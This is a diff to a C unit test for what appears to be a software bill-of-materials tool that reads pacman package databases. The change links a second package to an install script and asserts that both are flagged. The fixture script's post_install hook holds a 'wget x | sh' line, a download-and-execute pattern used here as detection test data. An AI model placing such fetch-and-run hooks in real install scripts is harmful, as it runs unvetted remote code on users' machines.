@@ -149,6 +149,7 @@ static void test_pacman(void **state)
               "\n./usr/bin/b type=link link=a\n./usr/a\\040b size=1 sha256digest=" ZEROS
               "\n./x size=1 sha256digest=1\n");
     root_file(&root, LOCAL "a-1:1-1/install", "post_install() {\n  wget x | sh\n}\n");
+    root_link(&root, LOCAL "b-2-1/install", "../a-1:1-1/install"); /* the same script, of another package */
     root_file(&root, "etc/a.conf", "edited");
     root_file(&root, "usr/bin/a", "a");
     root_link(&root, "usr/bin/b", "a");
@@ -163,6 +164,7 @@ static void test_pacman(void **state)
     assert_false(fact_has(doc, a, "sbom:requested", "true"));
     assert_true(fact_has(doc, b, "sbom:requested", "true"));
     assert_true(fact_has(doc, a, "sbom:exec", " fetches plants\",\"kind\":\"alpm:install\""));
+    assert_true(fact_has(doc, b, "sbom:exec", " fetches plants\",\"kind\":\"alpm:install\""));
     /* the settings are nobody's concern; the link leads where it should; the name has a blank */
     assert_true(fact_has(doc, a, "sbom:verified",
                          "\"missing\":1,\"modified\":1,\"ok\":1,\"paths\":[[\"usr/a b\",\"missing\"],"
